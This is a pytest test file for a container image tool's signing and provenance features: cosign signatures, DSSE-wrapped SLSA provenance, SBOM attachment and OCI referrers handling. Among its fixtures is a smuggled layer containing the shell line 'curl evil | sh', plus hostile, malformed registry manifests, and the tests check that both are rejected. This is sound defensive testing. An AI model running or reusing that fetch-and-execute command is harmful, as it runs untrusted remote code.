"""Signatures and provenance, checked by independent readings of each format:
the Simple Signing payload against the cosign specification's field list, the
ECDSA signature with `cryptography` against the payload bytes, the DSSE
envelope's pre-authentication encoding computed by hand, the referrers
fallback index read back as plain OCI JSON."""

from __future__ import annotations

import base64
import hashlib
import io
import json
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import pytest
from cryptography.exceptions import InvalidSignature
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec, rsa

from conftest import BASE
from fakes import FakeBackend, FakeRegistry
from javabase.cli.common import signing
from javabase.errors import ArchiveError, RegistryError, UsageError
from javabase.manifest.model import Manifest
from javabase.publish import referrers
from javabase.publish.oci import INDEX_TYPE, MANIFEST_TYPE
from javabase.publish.pusher import Pusher, index_platforms
from javabase.publish.registry import Remote, UntrustedAnswer
from javabase.release import carried, sbom, slsa, verify
from javabase.release.archive import SavedArtifact, SavedEntry, read_entry
from javabase.release.signing import (
    DSSE_TYPE,
    IN_TOTO_TYPE,
    SIGNATURE_ARTIFACT,
    SIMPLE_SIGNING_TYPE,
    check_payload,
    key_id,
    load_public_key,
    load_signer,
    open_envelope,
    simple_signing_payload,
)
from javabase.report import Console, ImageResult, Status
from javabase.settings import Environment, Settings

DIGEST = "sha256:" + "ab" * 32
OTHER = "sha256:" + "cd" * 32


def pem(key: ec.EllipticCurvePrivateKey | rsa.RSAPrivateKey, password: bytes | None = None) -> bytes:
    encryption = (serialization.BestAvailableEncryption(password) if password
                  else serialization.NoEncryption())
    return key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, encryption)


@pytest.fixture(scope="module")
def key() -> ec.EllipticCurvePrivateKey:
    return ec.generate_private_key(ec.SECP256R1())


def test_the_simple_signing_payload_has_cosigns_fields_and_the_signature_verifies_over_its_bytes(
        key: ec.EllipticCurvePrivateKey) -> None:
    signer = load_signer(pem(key), None, "test key")
    payload = simple_signing_payload("r:5000/base/jre25", DIGEST)
    body = json.loads(payload)
    # SIGNATURE_SPEC.md: critical.identity.docker-reference, critical.image.docker-manifest-digest,
    # critical.type "cosign container image signature", optional (may be null)
    assert body == {"critical": {"identity": {"docker-reference": "r:5000/base/jre25"},
                                 "image": {"docker-manifest-digest": DIGEST},
                                 "type": "cosign container image signature"},
                    "optional": None}
    signature = signer.sign(payload)
    key.public_key().verify(signature, payload, ec.ECDSA(hashes.SHA256()))  # raises when it does not hold
    encoded = base64.b64encode(signature).decode()
    assert check_payload(payload, encoded, key.public_key(), DIGEST) is None
    assert check_payload(payload, encoded, key.public_key(), OTHER) == f"it signs {DIGEST}, not {OTHER}"
    tampered = payload.replace(b"jre25", b"jre26")
    assert check_payload(tampered, encoded, key.public_key(), DIGEST) == "its signature does not verify with the key"
    stranger = ec.generate_private_key(ec.SECP256R1()).public_key()
    assert check_payload(payload, encoded, stranger, DIGEST) == "its signature does not verify with the key"
    assert check_payload(payload, "not base64!", key.public_key(), DIGEST) == \
        "its signature does not verify with the key"


def pae(payload_type: str, payload: bytes) -> bytes:
    """DSSE v1 pre-authentication encoding, from the protocol's text."""
    kind = payload_type.encode()
    return b"DSSEv1 %d %s %d %s" % (len(kind), kind, len(payload), payload)


def test_the_provenance_envelope_is_dsse_signed_over_the_pae_with_cosigns_key_id(
        key: ec.EllipticCurvePrivateKey) -> None:
    signer = load_signer(pem(key), None, "test key")
    facts = slsa.BuildFacts(
        repository="r:5000/base/jre25", manifest_digest=DIGEST, image="jre25", entry="images.yaml:12 (images.jre)",
        platform="linux/arm64", input_digest=OTHER, input_parts={"dockerfile": "sha256:" + "1" * 64},
        dependencies=(slsa.Dependency("Dockerfile", "2" * 64, "builds/jre25/Dockerfile"),
                      slsa.Dependency("OpenJDK.tar.gz", "3" * 64, "https://example.invalid/jre.tar.gz")),
        revision="git:0123abc", started="2026-11-30T09:00:00Z", finished="2026-11-30T09:01:00Z",
        builder={"javabase": "1.0", "backend": "docker", "engine": "26.1.5"})
    envelope = json.loads(signer.envelope(slsa.statement(facts)))
    assert envelope["payloadType"] == IN_TOTO_TYPE == "application/vnd.in-toto+json"
    payload = base64.b64decode(envelope["payload"])
    [signature] = envelope["signatures"]
    der = key.public_key().public_bytes(serialization.Encoding.DER, serialization.PublicFormat.SubjectPublicKeyInfo)
    assert signature["keyid"] == hashlib.sha256(der).hexdigest() == key_id(key.public_key())
    key.public_key().verify(base64.b64decode(signature["sig"]), pae(IN_TOTO_TYPE, payload),
                            ec.ECDSA(hashes.SHA256()))
    stated = json.loads(payload)
    assert stated["_type"] == "https://in-toto.io/Statement/v1"
    assert stated["predicateType"] == "https://slsa.dev/provenance/v1"
    assert stated["subject"] == [{"name": "r:5000/base/jre25", "digest": {"sha256": "ab" * 32}}]
    definition = stated["predicate"]["buildDefinition"]
    assert definition["externalParameters"] == {"image": "jre25", "entry": "images.yaml:12 (images.jre)",
                                                "platform": "linux/arm64", "revision": "git:0123abc"}
    assert definition["resolvedDependencies"][1] == {"name": "OpenJDK.tar.gz", "digest": {"sha256": "3" * 64},
                                                     "uri": "https://example.invalid/jre.tar.gz"}
    assert stated["predicate"]["runDetails"]["builder"]["version"]["engine"] == "26.1.5"
    assert slsa.subject_digests(stated) == {DIGEST} and slsa.input_digest(stated) == OTHER
    assert open_envelope(json.dumps(envelope).encode(), key.public_key()) == (stated, None)


def test_an_envelope_that_was_changed_or_signed_by_another_key_does_not_open(
        key: ec.EllipticCurvePrivateKey) -> None:
    signer = load_signer(pem(key), None, "test key")
    envelope = json.loads(signer.envelope(b'{"_type": "https://in-toto.io/Statement/v1", "subject": []}'))
    changed = {**envelope, "payload": base64.b64encode(b'{"_type": "x", "subject": []}').decode()}
    assert open_envelope(json.dumps(changed).encode(), key.public_key()) == (
        None, "its signature does not verify with the key")
    stranger = ec.generate_private_key(ec.SECP256R1())
    assert open_envelope(json.dumps(envelope).encode(), stranger.public_key()) == (
        None, "its signature does not verify with the key")
    retyped = {**envelope, "payloadType": "text/plain"}
    assert open_envelope(json.dumps(retyped).encode(), key.public_key()) == (
        None, "its payload type is 'text/plain', not an in-toto Statement")
    assert open_envelope(b"[]", key.public_key()) == (None, "it is not a DSSE envelope")


def test_keys_that_cannot_sign_say_what_to_do_and_never_show_the_key(key: ec.EllipticCurvePrivateKey) -> None:
    secret = pem(key, b"hunter2-canary")
    with pytest.raises(UsageError) as caught:
        load_signer(secret, None, "JAVABASE_SIGNING_KEY")
    assert str(caught.value) == "JAVABASE_SIGNING_KEY: the key is encrypted; set JAVABASE_SIGNING_KEY_PASSWORD"
    with pytest.raises(UsageError) as caught:
        load_signer(secret, "wrong", "JAVABASE_SIGNING_KEY")
    assert str(caught.value).startswith("JAVABASE_SIGNING_KEY: not a PEM private key, or the password "
                                        "(JAVABASE_SIGNING_KEY_PASSWORD) is wrong; make one with `openssl")
    assert load_signer(secret, "hunter2-canary", "x").public.public_numbers() == key.public_key().public_numbers()
    with pytest.raises(UsageError) as caught:
        load_signer(pem(rsa.generate_private_key(65537, 2048)), None, "JAVABASE_SIGNING_KEY_FILE k.pem")
    assert str(caught.value) == ("JAVABASE_SIGNING_KEY_FILE k.pem: javabase signs with ECDSA P-256 (what cosign "
                                 "uses); this key is another kind")
    garbage = b"-----BEGIN PRIVATE KEY-----\nc2VjcmV0LWNhbmFyeQ==\n-----END PRIVATE KEY-----\n"
    with pytest.raises(UsageError) as caught:
        load_signer(garbage, None, "JAVABASE_SIGNING_KEY")
    assert "c2VjcmV0" not in str(caught.value) and "canary" not in str(caught.value)
    assert "c2VjcmV0" not in repr(load_signer(pem(key), None, "x"))


def test_a_public_key_that_is_not_p256_is_refused(tmp_path: Path, key: ec.EllipticCurvePrivateKey) -> None:
    public = tmp_path / "cosign.pub"
    public.write_bytes(key.public_key().public_bytes(serialization.Encoding.PEM,
                                                     serialization.PublicFormat.SubjectPublicKeyInfo))
    assert key_id(load_public_key(public)) == key_id(key.public_key())
    public.write_bytes(ec.generate_private_key(ec.SECP384R1()).public_key().public_bytes(
        serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo))
    with pytest.raises(UsageError, match=f"^{public}: not an ECDSA P-256 public key$"):
        load_public_key(public)
    public.write_text("hello")
    with pytest.raises(UsageError, match=rf"^{public}: not a PEM public key \(`cosign public-key"):
        load_public_key(public)
    with pytest.raises(UsageError, match=rf"^{tmp_path}/missing.pub: cannot read the public key \(No such file"):
        load_public_key(tmp_path / "missing.pub")
    for private in (pem(key), pem(key, b"secret"), key.private_bytes(  # the team's key, given by mistake
            serialization.Encoding.PEM, serialization.PrivateFormat.TraditionalOpenSSL, serialization.NoEncryption())):
        public.write_bytes(private)
        with pytest.raises(UsageError) as caught:
            load_public_key(public)
        assert str(caught.value) == (
            f"{public}: is a private key; checking needs only its public half (`openssl ec -in {public} -pubout`), "
            "and the private key belongs only where images are signed")


def subject_in(registry: FakeRegistry) -> referrers.Descriptor:
    body = json.dumps({"schemaVersion": 2, "mediaType": MANIFEST_TYPE, "config": {}, "layers": []}).encode()
    digest = registry.put_manifest("base/jre25", "25", body, MANIFEST_TYPE)
    return referrers.Descriptor(digest, len(body), MANIFEST_TYPE)


def test_without_the_referrers_api_the_fallback_index_lists_each_artifact_once() -> None:
    registry = FakeRegistry()
    subject = subject_in(registry)
    sbom = referrers.Artifact("sbom", "application/spdx+json", (referrers.Layer("application/spdx+json", b"{}"),))
    first = referrers.attach(registry, "base/jre25", sbom, subject)
    again = referrers.attach(registry, "base/jre25", sbom, subject)
    assert first == again == referrers.Attached(first.digest)
    index = json.loads(registry.held[f"base/jre25:{referrers.fallback_tag(subject.digest)}"].body)
    assert index["mediaType"] == INDEX_TYPE
    assert [(m["digest"], m["artifactType"], m["mediaType"]) for m in index["manifests"]] == [
        (first.digest, "application/spdx+json", MANIFEST_TYPE)]
    artifact = json.loads(registry.held[f"base/jre25:{first.digest}"].body)
    assert artifact["subject"] == {"mediaType": MANIFEST_TYPE, "digest": subject.digest, "size": subject.size}
    assert artifact["config"]["mediaType"] == "application/vnd.oci.empty.v1+json"
    assert referrers.referrers(registry, "base/jre25", subject.digest) == index["manifests"]


def test_verify_wants_an_sbom_and_says_how_a_release_attaches_one() -> None:
    registry = FakeRegistry()
    subject = subject_in(registry)
    assert verify.check_sbom(registry, "base/jre25", subject.digest) == verify.Check(
        "sbom", False, f"no SPDX SBOM refers to {subject.digest[:19]}; a release attaches one with "
                       "`build --push --sbom`")
    sbom = referrers.Artifact("sbom", verify.SBOM_TYPE, (referrers.Layer(verify.SBOM_TYPE, b"{}"),))
    attached = referrers.attach(registry, "base/jre25", sbom, subject)
    assert verify.check_sbom(registry, "base/jre25", subject.digest) == verify.Check(
        "sbom", True, f"SPDX SBOM {attached.digest[:19]} refers to {subject.digest[:19]}")


def test_a_fallback_tag_that_cannot_be_written_keeps_the_artifact_and_says_so_in_one_line() -> None:
    registry = FakeRegistry()
    subject = subject_in(registry)
    real_put = registry.put_manifest

    def immutable(name: str, reference: str, body: bytes, media_type: str) -> str:
        if not reference.startswith("sha256:"):
            raise RegistryError(f"registry r:5000: the repository {name} has immutable tags: {reference} already "
                                "exists there and cannot be overwritten")
        return real_put(name, reference, body, media_type)

    registry.put_manifest = immutable  # type: ignore[method-assign]
    sbom = referrers.Artifact("sbom", "application/spdx+json", (referrers.Layer("application/spdx+json", b"{}"),))
    attached = referrers.attach(registry, "base/jre25", sbom, subject)
    tag = referrers.fallback_tag(subject.digest)
    assert attached.note == (f"sbom pushed as {attached.digest[:19]}, but the referrers list (tag {tag}) was not "
                             f"updated: registry r:5000: the repository base/jre25 has immutable tags: {tag} already "
                             "exists there and cannot be overwritten")
    assert f"base/jre25:{attached.digest}" in registry.held  # the artifact itself is published


def test_a_fallback_tag_that_holds_something_else_is_not_overwritten() -> None:
    registry = FakeRegistry()
    subject = subject_in(registry)
    registry.put_manifest("base/jre25", referrers.fallback_tag(subject.digest), b'{"mediaType": "x"}', "x")
    sbom = referrers.Artifact("sbom", "application/spdx+json", (referrers.Layer("application/spdx+json", b"{}"),))
    attached = referrers.attach(registry, "base/jre25", sbom, subject)
    assert attached.note.endswith(f"base/jre25:{referrers.fallback_tag(subject.digest)} holds something that is not "
                                  "a referrers index; leave that tag to the referrers list")


def test_cosigns_signature_tag_keeps_the_signatures_already_there(key: ec.EllipticCurvePrivateKey) -> None:
    registry = FakeRegistry()
    subject = subject_in(registry)
    payload = simple_signing_payload("r:5000/base/jre25", subject.digest)

    def layer(signature: bytes) -> referrers.Layer:
        return referrers.Layer(SIMPLE_SIGNING_TYPE, payload,
                               {"dev.cosignproject.cosign/signature": base64.b64encode(signature).decode()})

    stranger = ec.generate_private_key(ec.SECP256R1())
    referrers.add_to_cosign_tag(registry, "base/jre25", subject.digest, "sig",
                                layer(stranger.sign(payload, ec.ECDSA(hashes.SHA256()))))
    assert not verify.check_signature(registry, "base/jre25", subject.digest, key.public_key()).ok
    ours = layer(key.sign(payload, ec.ECDSA(hashes.SHA256())))
    referrers.add_to_cosign_tag(registry, "base/jre25", subject.digest, "sig", ours)
    referrers.add_to_cosign_tag(registry, "base/jre25", subject.digest, "sig", ours)
    held = json.loads(registry.held[f"base/jre25:{referrers.cosign_tag(subject.digest, 'sig')}"].body)
    assert [d["mediaType"] for d in held["layers"]] == [SIMPLE_SIGNING_TYPE, SIMPLE_SIGNING_TYPE]
    with pytest.raises(InvalidSignature):
        key.public_key().verify(base64.b64decode(held["layers"][0]["annotations"]
                                                 ["dev.cosignproject.cosign/signature"]),
                                payload, ec.ECDSA(hashes.SHA256()))
    assert verify.check_signature(registry, "base/jre25", subject.digest, key.public_key()) == verify.Check(
        "signature", True, f"cosign signature of {subject.digest[:19]} verifies with the key")


def test_a_manifest_with_a_public_key_signs_every_push_with_its_other_half_only(
        valid: Callable[[str], Manifest], key: ec.EllipticCurvePrivateKey, tmp_path: Path) -> None:
    public = tmp_path / "cosign.pub"
    public.write_bytes(key.public_key().public_bytes(serialization.Encoding.PEM,
                                                     serialization.PublicFormat.SubjectPublicKeyInfo))
    manifest = replace(valid(BASE), signing_key=public)
    assert signing(manifest, Environment(), sign=False, push=False)[0] is None  # a build without --push signs nothing
    with pytest.raises(UsageError, match=r"^signing needs the team's private key: set JAVABASE_SIGNING_KEY"):
        signing(manifest, Environment(), sign=False, push=True)
    signer, trust = signing(manifest, Environment(signing_key=pem(key).decode()), sign=False, push=True)
    assert signer is not None and trust is not None and key_id(signer.public) == key_id(trust)
    other = pem(ec.generate_private_key(ec.SECP256R1())).decode()
    with pytest.raises(UsageError) as caught:
        signing(manifest, Environment(signing_key=other), sign=False, push=True)
    assert str(caught.value) == (f"the signing key (JAVABASE_SIGNING_KEY...) is not the one {manifest.shown}'s "
                                 f"signing.public_key names ({key_id(key.public_key())[:16]}); use that key's "
                                 "private half")
    assert other.splitlines()[1] not in str(caught.value)
    key_file = tmp_path / "cosign.key"
    key_file.write_bytes(pem(key))
    assert signing(valid(BASE), Environment(signing_key_file=str(key_file)), sign=True, push=True)[0] is not None
    with pytest.raises(UsageError, match=f"^JAVABASE_SIGNING_KEY_FILE {tmp_path}/gone.key: cannot read it "):
        signing(valid(BASE), Environment(signing_key_file=str(tmp_path / "gone.key")), sign=True, push=True)



def saved_signature(key: ec.EllipticCurvePrivateKey, config: str, digest: str | None = None
                    ) -> tuple[bytes, SavedArtifact]:
    """A manifest of the image `config` and a cosign signature of `digest` (default: that manifest's)."""
    manifest = json.dumps({"schemaVersion": 2, "mediaType": MANIFEST_TYPE, "config": {
        "mediaType": "application/vnd.oci.image.config.v1+json", "digest": config, "size": 2}, "layers": []}).encode()
    payload = simple_signing_payload("r:5000/base/jre25", digest or "sha256:" + hashlib.sha256(manifest).hexdigest())
    signature = base64.b64encode(key.sign(payload, ec.ECDSA(hashes.SHA256()))).decode()
    layer = referrers.Layer(SIMPLE_SIGNING_TYPE, payload, {"dev.cosignproject.cosign/signature": signature})
    return manifest, SavedArtifact(False, referrers.Artifact("sig", SIGNATURE_ARTIFACT, (layer,)))


def saved(image_id: str, manifest: bytes | None, attached: list[SavedArtifact]) -> SavedEntry:
    """An archive index entry of the image `image_id` in r:5000/base/jre25."""
    return SavedEntry("jre25", ("r:5000/base/jre25:25",), image_id, OTHER, (), {}, ("r:5000/base/jre25:25",),
                      manifest=manifest, attached=tuple(attached))


def test_an_archive_vouches_for_an_image_only_with_a_signature_of_a_manifest_of_that_image(
        key: ec.EllipticCurvePrivateKey) -> None:
    public = key.public_key()
    manifest, good = saved_signature(key, DIGEST)
    signed = "sha256:" + hashlib.sha256(manifest).hexdigest()
    assert carried.check(saved(DIGEST, manifest, [good]), public) == verify.Check(
        "signature", True, f"cosign signature of {signed[:19]} verifies with the key")
    assert carried.check(saved(DIGEST, manifest, []), public).detail == (
        "the archive holds no signature of it (save it from a manifest with signing.public_key, after a signed push)")
    assert carried.check(saved(DIGEST, manifest, [replace(good, of_index=True)]), public).detail == (
        "the archive holds no signature of it (save it from a manifest with signing.public_key, after a signed push)")
    assert carried.check(saved(OTHER, manifest, [good]), public).detail == (
        f"a saved signature of {signed[:19]} does not hold: the manifest it signs is of image {DIGEST[:19]}, "
        f"not {OTHER[:19]}")
    another_key = ec.generate_private_key(ec.SECP256R1())
    assert carried.check(saved(DIGEST, manifest, [good]), another_key.public_key()).detail == (
        f"a saved signature of {signed[:19]} does not hold: its signature does not verify with the key")
    _, elsewhere = saved_signature(key, DIGEST, OTHER)  # a good signature, but of another manifest
    assert carried.check(saved(DIGEST, manifest, [elsewhere]), public).detail == (
        f"a saved signature of {signed[:19]} does not hold: it signs {OTHER}, not {signed}")
    changed = manifest.replace(b'"layers": []', b'"layers": [ ]')  # its bytes are what is signed
    assert not carried.check(saved(DIGEST, changed, [good]), public).ok
    assert carried.check(saved(DIGEST, manifest, [elsewhere, good]), public).ok  # one that holds is enough
    # the index names the image's repository, and is not signed; the signature names it too, and is
    moved = replace(saved(DIGEST, manifest, [good]), references=("r:5000/base/jdk21:21",),
                    publish=("r:5000/base/jdk21:21",))
    assert carried.check(moved, public).detail == (
        f"a saved signature of {signed[:19]} does not hold: it is for repository base/jre25, and the archive's "
        "index puts the image in base/jdk21")
    split = replace(saved(DIGEST, manifest, [good]), references=("r:5000/base/jre25:25", "r:5000/base/jdk21:21"))
    assert carried.check(split, public).detail == (
        "its tags are in several repositories (base/jdk21, base/jre25); a signature vouches for one")
    assert carried.check(replace(moved, references=("elsewhere:5000/base/jre25:25",),
                                 publish=("elsewhere:5000/base/jre25:25",)), public).ok  # another host: the same path


def test_an_archive_index_with_an_artifact_that_is_not_what_it_says_is_refused_as_changed(
        key: ec.EllipticCurvePrivateKey) -> None:
    manifest, good = saved_signature(key, DIGEST)
    reference = "r:5000/base/jre25:25"
    entry = SavedEntry("jre25", (reference,), DIGEST, OTHER, (), {}, (reference,), manifest=manifest, attached=(good,))
    assert read_entry(entry.as_json(), Path("release.tar")) == entry
    [item] = entry.as_json()["attached"]
    damaged = "^release.tar: javabase-index.json is not javabase's index; the archive is damaged$"
    for broken in ({**item, "layers": [{**item["layers"][0], "data": "not base64!"}]},
                   {**item, "kind": "sbom"},  # a signature's artifactType under another kind
                   {**item, "of": "elsewhere"}):
        with pytest.raises(ArchiveError, match=damaged):
            read_entry({**entry.as_json(), "attached": [broken]}, Path("release.tar"))
    with pytest.raises(ArchiveError, match=damaged):
        read_entry({**entry.as_json(), "manifest": "not base64!"}, Path("release.tar"))
    older = {k: v for k, v in entry.as_json().items() if k not in ("manifest", "index", "attached")}
    assert read_entry(older, Path("release.tar")) == replace(entry, manifest=None, attached=())  # saved before


def provenance_of(key: ec.EllipticCurvePrivateKey, subject: str) -> referrers.Artifact:
    """A SLSA provenance of `subject`, in a DSSE envelope signed with `key`, as attest writes it."""
    statement = json.dumps({"_type": slsa.STATEMENT_TYPE, "subject": [{"name": "r:5000/base/jre25", "digest": {
        "sha256": subject.split(":")[1]}}], "predicateType": slsa.PREDICATE_TYPE, "predicate": {}}).encode()
    envelope = load_signer(pem(key), None, "key").envelope(statement)
    layer = referrers.Layer(DSSE_TYPE, envelope, {"predicateType": slsa.PREDICATE_TYPE})
    return referrers.Artifact("att", DSSE_TYPE, (layer,), {slsa.PREDICATE_ANNOTATION: slsa.PREDICATE_TYPE})


def sbom_of(image_id: str) -> referrers.Artifact:
    return sbom.as_artifact(json.dumps({"spdxVersion": "SPDX-2.3", "name": "jre25", "documentNamespace":
                                        f"https://javabase.invalid/spdx/jre25/{image_id}"}).encode())


def test_only_what_the_key_vouches_for_goes_on_to_another_registry_and_in_javabases_own_form(
        key: ec.EllipticCurvePrivateKey) -> None:
    """An archive's artifacts are what anyone who can write the file made them:
    a signature is carried only as its verified Simple Signing layers (a layer
    or an annotation added beside them is not), a provenance only as envelopes
    that open with the key for that manifest, an SBOM only when it is the
    image's (its documentNamespace names the image ID)."""
    public = key.public_key()
    manifest, good = saved_signature(key, DIGEST)
    signed = "sha256:" + hashlib.sha256(manifest).hexdigest()
    [layer] = good.artifact.layers
    assert carried.vouched(good.artifact, signed, DIGEST, public) == good.artifact
    smuggled = referrers.Layer("application/octet-stream", b"#!/bin/sh\ncurl evil | sh\n")
    assert carried.vouched(replace(good.artifact, layers=(layer, smuggled)), signed, DIGEST, public) is None
    forged = referrers.Layer(layer.media_type, layer.data, {**layer.annotations, "dev.sigstore.cosign/bundle": "{}"})
    assert carried.vouched(replace(good.artifact, layers=(forged,), annotations={"x": "y"}), signed, DIGEST,
                           public) == good.artifact  # what the signature does not cover is not carried
    assert carried.vouched(good.artifact, OTHER, DIGEST, public) is None
    assert carried.vouched(replace(good.artifact, layers=()), signed, DIGEST, public) is None

    att = provenance_of(key, signed)
    assert carried.vouched(att, signed, DIGEST, public) == att
    assert carried.vouched(provenance_of(key, OTHER), signed, DIGEST, public) is None  # another image's
    [envelope] = att.layers
    assert carried.vouched(replace(att, layers=(envelope, smuggled)), signed, DIGEST, public) is None
    assert carried.vouched(replace(att, layers=(replace(envelope, media_type="application/json"),)), signed,
                           DIGEST, public) is None
    relabelled = replace(att, annotations={slsa.PREDICATE_ANNOTATION: "https://example.com/anything"},
                         layers=(replace(envelope, annotations={"predicateType": "https://example.com/anything"}),))
    assert carried.vouched(relabelled, signed, DIGEST, public) == att  # the statement says what it is

    assert carried.vouched(sbom_of(DIGEST), signed, DIGEST, public) == sbom_of(DIGEST)
    assert carried.vouched(sbom_of(OTHER), signed, DIGEST, public) is None  # another image's SBOM
    [document] = sbom_of(DIGEST).layers
    assert carried.vouched(replace(sbom_of(DIGEST), layers=(document, smuggled)), signed, DIGEST, public) is None
    assert carried.vouched(replace(sbom_of(DIGEST), layers=(replace(document, data=b"[1, 2]"),)), signed, DIGEST,
                           public) is None


def test_save_keeps_what_vouches_and_passes_over_artifacts_of_any_other_shape(key: ec.EllipticCurvePrivateKey) -> None:
    """Whoever can push to the registry `save` reads can list anything as a
    referrer of an image: manifests that are not objects, layers that are not
    a list, descriptors that are not objects, annotations that are not
    strings. save keeps the signature that vouches and passes over the rest."""
    registry = FakeRegistry()
    manifest, good = saved_signature(key, DIGEST)
    signed = registry.put_manifest("base/jre25", "25", manifest, MANIFEST_TYPE)
    registry.held["base/jre25:25"] = replace(registry.held["base/jre25:25"], config_digest=DIGEST)
    [layer] = good.artifact.layers
    registry.upload_blob("base/jre25", sha(layer.data), lambda: layer.data)
    referrers.add_to_cosign_tag(registry, "base/jre25", signed, "sig", layer)
    hostile = [b"[]", b'{"layers": {"x": 1}}', b'{"layers": [5]}', b'{"layers": null}',
               json.dumps({"layers": [{"mediaType": DSSE_TYPE, "digest": sha(layer.data), "annotations": {"a": 1}}]
                           }).encode(), b"[" * 100_000 + b"]" * 100_000]
    for body in hostile:
        registry.held[f"base/jre25:{sha(body)}"] = Remote(sha(body), None, None, body, MANIFEST_TYPE)
    listing = {"schemaVersion": 2, "mediaType": INDEX_TYPE, "manifests": [
        {"mediaType": MANIFEST_TYPE, "digest": sha(body), "size": len(body), "artifactType": kind}
        for body in hostile for kind in (SIGNATURE_ARTIFACT, DSSE_TYPE, sbom.MEDIA_TYPE)]}
    registry.put_manifest("base/jre25", referrers.fallback_tag(signed), json.dumps(listing).encode(), INDEX_TYPE)
    found = carried.find(registry, "r:5000/base/jre25:25", DIGEST, key.public_key())
    assert found == carried.Found(manifest, None, (good,))
    lying = [sha(b"[]"), sha(b'{"layers": [5]}')]  # what Registry.manifest says of a manifest that is not one

    def untrusted(name: str, reference: str, held: Callable[[str, str], Remote | None] = registry.manifest
                     ) -> Remote | None:
        if reference in lying:
            raise UntrustedAnswer(f"registry r:5000: {name}:{reference} is not a manifest (a JSON object)")
        return held(name, reference)

    registry.manifest = untrusted  # type: ignore[method-assign]
    assert carried.find(registry, "r:5000/base/jre25:25", DIGEST, key.public_key()) == found
    assert verify.check_signature(registry, "base/jre25", signed, key.public_key()).ok
    assert verify.check_signature(registry, "base/jre25", signed, key.public_key()).ok  # invoke verify, reuse
    assert not verify.check_provenance(registry, "base/jre25", signed, key.public_key(), None).ok
    for listing_of_another_shape in (b'{"manifests": 5}', b'{"manifests": {"a": 1}}', b"[" * 100_000):
        registry.held[f"base/jre25:{referrers.fallback_tag(signed)}"] = Remote("", None, None, listing_of_another_shape)
        assert referrers.referrers(registry, "base/jre25", signed) == []
        assert index_platforms(listing_of_another_shape) == []
        registry.held[f"base/jre25:{referrers.cosign_tag(signed, 'sig')}"] = Remote("", None, None, b'{"layers": 7}')
        referrers.add_to_cosign_tag(registry, "base/jre25", signed, "sig", layer)  # the layer goes in all the same
        assert json.loads(registry.held[f"base/jre25:{referrers.cosign_tag(signed, 'sig')}"].body)["layers"] == [
            layer.descriptor()]


def sha(data: bytes) -> str:
    return "sha256:" + hashlib.sha256(data).hexdigest()


class ImmutableTags(FakeRegistry):
    """A registry that refuses to write the tags in `frozen` (they exist already)."""

    frozen: frozenset[str] = frozenset()

    def put_manifest(self, name: str, reference: str, body: bytes, media_type: str) -> str:
        if f"{name}:{reference}" in self.frozen:
            raise RegistryError(f"registry {self.host} refused {name}:{reference}: TAG_INVALID: the tag is immutable")
        return super().put_manifest(name, reference, body, media_type)


def test_what_one_artifact_cannot_write_at_the_target_is_a_note_and_the_others_still_go(
        tmp_path: Path, key: ec.EllipticCurvePrivateKey) -> None:
    """load --push at a registry whose cosign tag for the image cannot be
    written: the signature still goes as a referrer, the note says what was not
    written, and the provenance and SBOM after it go along; the image stays
    published."""
    registry = ImmutableTags()
    backend = FakeBackend()
    image_id = backend.add_image(b"the root", b"the jre")
    pusher = Pusher(backend, registry, Console(io.StringIO()), Settings(  # type: ignore[arg-type]
        registry="r:5000", jobs=1, push_jobs=1, cache_dir=tmp_path / "cache", log_dir=tmp_path / "logs"))
    results = [ImageResult("jre25", ["r:5000/base/jre25:25"], status=Status.BUILT, image_id=image_id)]
    assert pusher.push_all(results) == []
    there = registry.held["base/jre25:25"]
    payload = simple_signing_payload("r:5000/base/jre25", there.digest)
    signature = base64.b64encode(key.sign(payload, ec.ECDSA(hashes.SHA256()))).decode()
    sig = referrers.Artifact("sig", SIGNATURE_ARTIFACT, (referrers.Layer(SIMPLE_SIGNING_TYPE, payload, {
        "dev.cosignproject.cosign/signature": signature}),))
    attached = tuple(SavedArtifact(False, a) for a in (sig, provenance_of(key, there.digest), sbom_of(image_id)))
    entry = SavedEntry("jre25", ("r:5000/base/jre25:25",), image_id, OTHER, (), {}, ("r:5000/base/jre25:25",),
                       manifest=there.body, attached=attached)
    registry.frozen = frozenset({f"base/jre25:{referrers.cosign_tag(there.digest, 'sig')}"})
    assert carried.carry(pusher, results, [entry], key.public_key()) == [
        f"jre25: its sig was not carried whole: registry r:5000 refused base/jre25:"
        f"{referrers.cosign_tag(there.digest, 'sig')}: TAG_INVALID: the tag is immutable"]
    assert sorted(str(d["artifactType"]) for d in referrers.referrers(registry, "base/jre25", there.digest)) == sorted(
        [DSSE_TYPE, SIGNATURE_ARTIFACT, sbom.MEDIA_TYPE])
    assert registry.held["base/jre25:25"] == there
